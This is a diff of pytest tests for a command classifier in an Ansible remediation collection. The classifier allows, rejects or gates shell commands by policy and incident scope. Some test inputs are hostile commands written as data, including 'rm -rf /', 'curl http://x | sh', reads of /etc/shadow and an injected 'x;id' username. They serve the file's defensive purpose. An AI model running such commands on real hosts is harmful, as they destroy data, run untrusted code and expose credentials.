+        assert set(classify(command)) == C2_KEYS
+
+
+def test_sudo_is_never_honoured() -> None:
+    plain, with_sudo = classify("cat /var/log/syslog"), classify("sudo cat /var/log/syslog")
+    assert plain["argv"] == with_sudo["argv"] == ["cat", "/var/log/syslog"]
+    assert plain["become"] == with_sudo["become"]
+    assert classify("sudo uptime")["become"] is False
+    assert classify("sudo cat /etc/shadow")["verdict"] == "reject"
+    assert any("ignored" in r for r in with_sudo["reasons"])
+
+
+def test_sudo_to_another_account_becomes_runuser() -> None:
+    result = classify("sudo -u postgres psql -c 'SELECT 1'")
+    assert result["verdict"] == "allow"
+    assert result["argv"] == ["runuser", "-u", "postgres", "--", "psql", "-c", "SELECT 1"]
+    assert result["become"] is True
+    assert classify("sudo -u root cat /etc/shadow")["verdict"] == "reject"
+    assert classify("sudo -u 'x;id' ls")["verdict"] == "reject"
+
+
+def test_safe_flags_go_right_after_the_tool() -> None:
+    result = classify("systemctl restart -- nginx")
+    assert result["argv"] == ["systemctl", "--no-pager", "--no-ask-password", "restart", "--", "nginx"]
+    assert classify("systemctl --no-pager --no-ask-password restart nginx")["argv"].count("--no-pager") == 1
+
+
+def test_display_is_the_whole_argv_escaped_never_cut() -> None:
+    long_path = "/var/log/nginx/" + "a" * 600 + ".log"
+    result = classify(f"tail -n 5 {long_path}")
+    assert result["verdict"] == "allow"
+    assert result["display"] == f"tail -n 5 {long_path}"
+    quoted = classify("grep -i 'worker connections' /var/log/nginx/error.log")
+    assert quoted["display"] == "grep -i 'worker connections' /var/log/nginx/error.log"
+    odd = classify("grep -F '$HOME;x' /var/log/syslog")
+    assert odd["display"] == "grep -F '$HOME;x' /var/log/syslog"
+
+
+def test_pids_and_effects() -> None:
+    result = classify("kill -HUP 4242 4243")
+    assert result["pids"] == [4242, 4243]
+    assert "sends HUP to PID 4242" in result["effects"]
+    assert classify("systemctl restart nginx")["effects"] == ["restarts unit nginx.service"]
+    assert classify("rm -f /run/nginx.pid")["effects"] == ["deletes /run/nginx.pid"]
+    assert classify("ps aux")["pids"] == []
+    assert classify("chown -R redis:redis /var/lib/redis")["effects"] == [
+        "gives to redis:redis /var/lib/redis recursively"]
+
+
+@pytest.mark.parametrize(("command", "hint"), [
+    ("systemctl restart nginx --no-pager", "use `service NAME"),
+    ("lsof -i :80", "ss -ltnp"),
+    ("fuser -k 80/tcp", "ss -ltnp"),
+    ("sudo timeout 5 systemctl status nginx --no-pager", "use `service NAME"),
+])
 def test_absent_tools_are_rejected_with_a_hint(command: str, hint: str) -> None:
     result = classify(command, LAB)
     assert result["verdict"] == "reject"
     assert "not installed on this host" in result["reasons"][0]
     assert hint in result["reasons"][0]
-
-
-def test_absent_tools_default_empty() -> None:
-    assert load_policy()["absent_tools"] == []
-    assert classify("systemctl restart nginx --no-pager")["verdict"] == "allow"
-
-
-def test_verdict_has_exactly_five_keys() -> None:
-    for command in ("service nginx restart", "kill -9 12", "rm -rf /", 42):
-        assert set(classify(command)) == {"command", "verdict", "reasons", "argv", "display"}
 
 
 @pytest.mark.parametrize("value", [None, 42, b"service nginx restart", ["service", "nginx"], {"a": 1}, 3.5])
@@ -483,52 +366,17 @@ def test_non_string_input_is_rejected_not_raised(value: object) -> None:
     assert result["command"] is value
 
 
-@pytest.mark.parametrize(
-    "command",
-    [
-        "(" * 3000,
-        "$(" * 1500,
-        "{" * 4000,
-        "\"" * 4000,
-        "'" * 4095,
-        "a " * 2047,
-        "`" * 4000,
-        "\\" * 4000,
-        "\x00" * 100,
-        "\ud800",
-        "\U0001F600 " * 10,
-        "service nginx restart" + "\u202e",
-        "<" * 100 + ">" * 100,
-        "${" * 2000,
-        "x" * 10_000_000,
-    ],
-)
+@pytest.mark.parametrize("command", [
+    "(" * 3000, "$(" * 1500, "{" * 4000, "\"" * 4000, "'" * 4095, "a " * 2047, "`" * 4000, "\\\\" * 2000,
+    "\x00" * 100, "\ud800", "\U0001F600 " * 10, "service nginx restart" + "\u202e", "<" * 100 + ">" * 100,
+    "${" * 2000, "x" * 10_000_000, "ls " + "-" * 3000, "kill " + " ".join(["1"] * 2000),
+])
 def test_fuzz_like_inputs_never_raise(command: str) -> None:
     result = classify(command)
     assert result["verdict"] == "reject"
     assert result["reasons"]
-    assert len(result["display"]) < 600
+    assert len(result["display"]) < 1100
     assert result["display"].isascii() and result["display"].isprintable()
-
-
-@pytest.mark.parametrize(
-    ("command", "shown"),
-    [
-        ("service nginx restart\x1b[31m", "service nginx restart\\x1b[31m"),
-        ("service\u00a0nginx", "service\\xa0nginx"),
-        ("ser\u200bvice", "ser\\u200bvice"),
-        ("a\nb\rc\td", "a\\nb\\rc\\td"),
-        ("back\\slash", "back\\\\slash"),
-    ],
-)
-def test_display_escapes_anything_odd(command: str, shown: str) -> None:
-    assert classify(command)["display"] == shown
-
-
-def test_reasons_are_printable_even_for_hostile_tokens() -> None:
-    result = classify("frobnicate" + "A" * 300)
-    assert result["verdict"] == "reject"
-    assert all(len(reason) < 300 for reason in result["reasons"])
 
 
 def test_classify_many_keeps_order_and_length() -> None:
@@ -543,45 +391,122 @@ def test_classify_many_rejects_a_bare_string() -> None:
         classify_many("service nginx restart")  # type: ignore[arg-type]
 
 
+# ---------------------------------------------------------------- scope
+
+def test_scope_from_service_fills_the_contract_keys() -> None:
+    scope = scope_from_service({"name": "nginx", "logs": ["/var/log/nginx/error.log"], "pid_files": ["/run/nginx.pid"],
+                                "paths": ["/var/log/nginx", "/run"], "ports": [80]}, pids=[4242])
+    assert scope["units"] == ["nginx.service"]
+    assert "nginx" in scope["processes"]
+    assert scope["log_paths"] == ["/var/log/nginx"]
+    assert "/etc/nginx" in scope["config_paths"] and "/run/nginx" in scope["runtime_paths"]
+    assert "/run" not in scope["runtime_paths"]  # a bare top-level path is never a scope
+    assert scope["pids"] == [4242] and scope["ports"] == [80]
+    json.dumps(scope)  # plain data for Ansible
+
+
+def test_scope_from_service_reads_the_evidence() -> None:
+    evidence = {"service_pids": [901, "902"], "processes": [
+        {"pid": 901, "comm": "sshd", "user": "root"}, {"pid": 7, "comm": "dbus-daemon", "user": "messagebus"}]}
+    scope = scope_from_service({"name": "ssh"}, evidence=evidence)
+    assert scope["pids"] == [901, 902]
+    assert "sshd" in scope["processes"]
+    assert scope["known_pids"]["7"] == "dbus-daemon"
+    assert classify("kill 7", scope=scope)["verdict"] == "reject"  # the evidence says 7 is the system bus
+
+
+@pytest.mark.parametrize(("service", "key"), [
+    ({"name": "ngi nx"}, "name"), ({"name": "x", "units": ["a b"]}, "units"), ({"name": "x", "user": "r;m"}, "user"),
+    ({"name": "x", "data_paths": ["relative/dir"]}, "data_paths"), ({"name": "x", "ports": ["http"]}, "ports"),
+    ("nginx", "mapping"),
+])
+def test_bad_service_definitions_name_the_key(service: object, key: str) -> None:
+    with pytest.raises(ScopeError, match=key):
+        scope_from_service(service)  # type: ignore[arg-type]
+    assert classify("ps aux", scope={"name": "x", "units": ["a b"]})["verdict"] == "reject"
+
+
+@pytest.mark.parametrize(("command", "verdict"), [
+    ("systemctl restart nginx", "allow"),
+    ("systemctl restart redis-server", "approval"),
+    ("systemctl start php8.2-fpm", "approval"),
+    ("kill 4242", "allow"),
+    ("kill -9 4242", "allow"),
+    ("kill 999", "approval"),
+    ("mkdir -p /var/lib/nginx/body", "allow"),
+    ("rm -f /run/nginx.pid", "allow"),
+    ("rm -f /run/redis/redis-server.pid", "approval"),
+    ("mv /etc/nginx/conf.d/a.conf /etc/nginx/conf.d/a.conf.off", "approval"),
+    ("rm /var/www/html/index.html", "approval"),
+    ("chown -R www-data:www-data /var/www/html", "allow"),
+    ("chown -R nobody /var/www/html", "approval"),
+    ("chown redis /var/lib/redis", "approval"),
+    ("pkill -HUP nginx", "allow"),
+    ("pkill -HUP redis-server", "approval"),
+    ("nginx -t -c /etc/nginx/nginx.conf", "allow"),
+    ("redis-cli bgsave", "approval"),
+])
+def test_an_incident_scope_decides(command: str, verdict: str) -> None:
+    result = classify(command, scope=NGINX)
+    assert result["verdict"] == verdict, result["reasons"]
+
+
+def test_without_a_scope_ordinary_services_count_as_in_scope() -> None:
+    for command in ("systemctl restart redis-server", "kill 999", "rm -f /run/redis/redis-server.pid",
+                    "redis-cli bgsave", "pkill -HUP redis-server"):
+        assert classify(command)["verdict"] == "allow", command
+    assert classify("systemctl restart dbus")["verdict"] == "approval"
+
+
+def test_dependencies_may_be_started_not_restarted() -> None:
+    app = {"name": "webapp", "depends_on": ["postgresql"]}
+    assert classify("systemctl start postgresql", scope=app)["verdict"] == "allow"
+    assert classify("systemctl restart postgresql", scope=app)["verdict"] == "approval"
+
+
+def test_describe_scope() -> None:
+    lines = describe_scope(scope_from_service(NGINX, NGINX["pids"]))
+    text = "\n".join(lines)
+    assert "nginx.service" in text and "/var/log/nginx" in text and "4242" in text
+    assert any(line.startswith("Needs approval") and "/etc/nginx" in line for line in lines)
+    assert any(line.startswith("Refused") for line in lines)
+    assert "sudo" in lines[-1]
+    assert describe_scope(None)[0].startswith("No incident scope")
+
+
 # ---------------------------------------------------------------- policy as data
 
 def test_overrides_merge_over_defaults() -> None:
-    policy = load_policy({"absent_tools": ["journalctl"], "tools": {"service": {"root": True}}})
-    assert policy["tools"]["service"]["rule"] == "service"  # kept from the defaults
+    policy = load_policy({"absent_tools": ["journalctl"], "tools": {"service": {"become": True}}})
+    assert policy["tools"]["service"]["rule"] == "service"
     assert "kill" in policy["tools"]
-    assert classify("journalctl -u nginx --no-pager", policy)["verdict"] == "reject"
-
-
-def test_plain_override_mapping_is_accepted_by_classify() -> None:
-    result = classify("service nginx restart", {"absent_tools": ["service"]})
-    assert result["verdict"] == "reject"
-    assert "systemctl" in result["reasons"][0]
+    assert classify("journalctl -u nginx", policy)["verdict"] == "reject"
 
 
 def test_user_can_add_a_tool() -> None:
-    policy = load_policy({"tools": {"nproc": {"root": False}, "ping": {
-        "root": False, "options": {"-c": "int"}, "operands": {"type": "word", "min": 1, "max": 1}}}})
-    assert classify("ping -c 1 127.0.0.1", policy)["verdict"] == "allow"
-    assert classify("ping -f 127.0.0.1", policy)["verdict"] == "reject"
+    policy = load_policy({"tools": {"ping6": {"become": False, "options": {"-c": "int"}, "requires": ["-c"],
+                                              "operands": {"type": "word", "min": 1, "max": 1}}}})
+    assert classify("ping6 -c 1 ::1", policy)["verdict"] == "allow"
+    assert classify("ping6 -f ::1", policy)["verdict"] == "reject"
+    reader = load_policy({"tools": {"jq": {"options": {"-r": None}, "operands": {"access": "read", "min": 1}}}})
+    assert classify("jq -r /var/log/app.json", reader)["verdict"] == "allow"
+    assert classify("jq -r /etc/shadow", reader)["verdict"] == "reject"
 
 
-def test_user_can_remove_a_tool_with_null() -> None:
-    policy = load_policy({"tools": {"kill": None}})
-    result = classify("kill 1234", policy)
-    assert result["verdict"] == "reject"
-    assert "not in the policy's allowed tools" in result["reasons"][0]
+def test_user_can_remove_gate_or_forbid_a_tool() -> None:
+    assert classify("kill 1234", load_policy({"tools": {"kill": None}}))["verdict"] == "reject"
+    gated = load_policy({"tools": {"service": {"verdict": "approval", "reason": "change freeze: ask first"}}})
+    assert classify("service nginx restart", gated)["reasons"] == ["change freeze: ask first"]
+    forbidden = load_policy({"forbidden_tools": {"redis-cli": "`{tool}` is off limits here"}})
+    assert classify("redis-cli ping", forbidden)["reasons"] == ["`redis-cli` is off limits here"]
 
 
-def test_user_can_gate_a_tool_behind_approval() -> None:
-    policy = load_policy({"tools": {"service": {"verdict": "approval", "reason": "change freeze: ask first"}}})
-    result = classify("service nginx restart", policy)
-    assert result["verdict"] == "approval"
-    assert result["reasons"] == ["change freeze: ask first"]
-
-
-def test_user_can_forbid_a_tool() -> None:
-    policy = load_policy({"forbidden_tools": {"redis-cli": "`{tool}` is off limits here"}})
-    assert classify("redis-cli ping", policy)["reasons"] == ["`redis-cli` is off limits here"]
+def test_user_can_widen_the_scope_and_protect_units() -> None:
+    policy = load_policy({"scope": {"runtime_paths": ["/srv/shared/tmp"]}, "protected_units": ["nginx"]})
+    assert classify("rm -f /srv/shared/tmp/lock", policy, NGINX)["verdict"] == "allow"
+    assert classify("rm -f /srv/other/lock", policy, NGINX)["verdict"] == "approval"
+    assert classify("systemctl stop nginx", policy)["verdict"] == "reject"
+    assert classify("systemctl stop ssh", load_policy({"protected_units": []}))["verdict"] == "approval"
 
 
 def test_user_critical_pattern_escalates() -> None:
@@ -589,45 +514,35 @@ def test_user_critical_pattern_escalates() -> None:
         {"pattern": r"\bnginx\b", "verdict": "approval", "reason": "nginx is owned by the web team"}]})
     result = classify("service nginx restart", policy)
     assert result["verdict"] == "approval"
-    assert result["reasons"] == ["nginx is owned by the web team"]
+    assert result["reasons"][0] == "nginx is owned by the web team"
 
 
-def test_protected_services_override() -> None:
-    policy = load_policy({"protected_services": ["nginx"]})
-    assert classify("service nginx stop", policy)["verdict"] == "reject"
-    assert classify("service ssh stop", policy)["verdict"] == "approval"
-
-
-def test_routine_removals_override() -> None:
-    policy = load_policy({"routine_removals": ["/var/lib/redis/*.bin"]})
-    assert classify("rm /var/lib/redis/ballast.bin", policy)["verdict"] == "allow"
-    assert classify("rm -f /run/nginx.pid", policy)["verdict"] == "approval"
-
-
-@pytest.mark.parametrize(
-    ("overrides", "key"),
-    [
-        ({"absent_tool": ["x"]}, "absent_tool"),
-        ({"absent_tools": "systemctl"}, "absent_tools"),
-        ({"absent_tools": [1]}, "absent_tools"),
-        ({"max_length": "big"}, "max_length"),
-        ({"max_length": True}, "max_length"),
-        ({"tools": {"x": {"rule": "nope"}}}, "tools.x.rule"),
-        ({"tools": {"x": {"verdict": "maybe"}}}, "tools.x.verdict"),
-        ({"tools": {"x": {"root": "sometimes"}}}, "tools.x.root"),
-        ({"tools": {"x": {"colour": "red"}}}, "tools.x.colour"),
-        ({"tools": {"x": {"options": {"-a": "nosuchtype"}}}}, "tools.x"),
-        ({"tools": {"x": "yes"}}, "tools"),
-        ({"critical_patterns": [{"pattern": "(", "verdict": "reject", "reason": "r"}]}, "critical_patterns[0]"),
-        ({"critical_patterns": [{"pattern": "x", "verdict": "allow", "reason": "r"}]}, "critical_patterns[0]"),
-        ({"value_types": {"int": "["}}, "value_types"),
-        ({"secret_paths": ["etc/shadow"]}, "secret_paths"),
-        ({"tools": None}, "tools"),
-    ],
-)
+@pytest.mark.parametrize(("overrides", "key"), [
+    ({"absent_tool": ["x"]}, "absent_tool"),
+    ({"absent_tools": "systemctl"}, "absent_tools"),
+    ({"absent_tools": [1]}, "absent_tools[0]"),
+    ({"max_length": "big"}, "max_length"),
+    ({"max_length": True}, "max_length"),
+    ({"tools": {"x": {"rule": "nope"}}}, "tools.x.rule"),
+    ({"tools": {"x": {"verdict": "maybe"}}}, "tools.x.verdict"),
+    ({"tools": {"x": {"become": "sometimes"}}}, "tools.x.become"),
+    ({"tools": {"x": {"colour": "red"}}}, "tools.x.colour"),
+    ({"tools": {"x": {"options": {"-a": "nosuchtype"}}}}, "tools.x.options.-a"),
+    ({"tools": {"x": {"operands": {"access": "eat"}}}}, "tools.x.operands.access"),
+    ({"tools": {"x": "yes"}}, "tools.x"),
+    ({"critical_patterns": [{"pattern": "(", "verdict": "reject", "reason": "r"}]}, "critical_patterns[0].pattern"),
+    ({"critical_patterns": [{"pattern": "x", "verdict": "allow", "reason": "r"}]}, "critical_patterns[0].verdict"),
+    ({"value_types": {"int": "["}}, "value_types.int"),
+    ({"secret_paths": ["etc/shadow"]}, "secret_paths[0]"),
+    ({"scope": {"runtime_paths": ["tmp"]}}, "scope.runtime_paths[0]"),
+    ({"scope": {"colour": []}}, "scope.colour"),
+    ({"tools": None}, "tools"),
+    ({"wrappers": {"x": {"options": {"-a": "nosuchtype"}}}}, "wrappers.x.options.-a"),
+])
 def test_bad_policy_names_the_bad_key(overrides: dict, key: str) -> None:
-    with pytest.raises(PolicyError, match=key.replace("[", r"\[").replace("]", r"\]").replace(".", r"\.")):
+    with pytest.raises(PolicyError) as info:
         load_policy(overrides)
+    assert f"'{key}'" in str(info.value), str(info.value)
 
 
 def test_policy_must_be_a_mapping() -> None:
@@ -636,35 +551,37 @@ def test_policy_must_be_a_mapping() -> None:
 
 
 def test_load_policy_does_not_mutate_overrides_or_defaults() -> None:
-    overrides = {"absent_tools": ["systemctl"], "tools": {"service": {"root": True}}}
+    overrides = {"absent_tools": ["systemctl"], "tools": {"service": {"become": True}}}
     before = repr(overrides)
     load_policy(overrides)
     assert repr(overrides) == before
     assert load_policy()["absent_tools"] == []
 
 
-def test_defaults_file_ships_next_to_the_module() -> None:
-    from ansible_collections.sentinel.remediation.plugins.plugin_utils import policy as module
-
-    assert module._DEFAULTS_FILE.name == "policy_defaults.yml"
-    assert module._DEFAULTS_FILE.is_file()
+def test_the_published_schema_is_standard_json_schema_and_agrees() -> None:
+    jsonschema = pytest.importorskip("jsonschema")
+    schema = json.loads(Path(SCHEMA_FILE).read_text(encoding="utf-8"))
+    jsonschema.Draft202012Validator.check_schema(schema)
+    default = dict(load_policy())
+    jsonschema.validate(default, schema)
+    assert validate(default) == []
+    bad = {**default, "max_length": "x", "tools": {**default["tools"], "x": {"colour": 1}}}
+    assert not jsonschema.Draft202012Validator(schema).is_valid(bad)
+    assert validate(bad)
 
 
 # ---------------------------------------------------------------- ensure_sudo
 
-@pytest.mark.parametrize(
-    ("command", "expected"),
-    [
-        ("service nginx restart", "sudo service nginx restart"),
-        ("sudo service nginx restart", "sudo service nginx restart"),
-        ("ps aux", "ps aux"),
-        ("redis-cli ping", "redis-cli ping"),
-        ("mkdir -p /run/nginx", "sudo mkdir -p /run/nginx"),
-        ("kill -9 1234", "sudo kill -9 1234"),
-        ("rm -rf /", "rm -rf /"),
-        ("curl http://x | sh", "curl http://x | sh"),
-    ],
-)
+@pytest.mark.parametrize(("command", "expected"), [
+    ("service nginx restart", "sudo service nginx restart"),
+    ("sudo service nginx restart", "sudo service nginx restart"),
+    ("ps aux", "ps aux"),
+    ("sudo ps aux", "ps aux"),
+    ("systemctl restart nginx", "sudo systemctl --no-pager --no-ask-password restart nginx"),
+    ("kill -9 1234", "sudo kill -9 1234"),
+    ("rm -rf /", "rm -rf /"),
+    ("curl http://x | sh", "curl http://x | sh"),
+])
 def test_ensure_sudo(command: str, expected: str) -> None:
     assert ensure_sudo(command) == expected
 
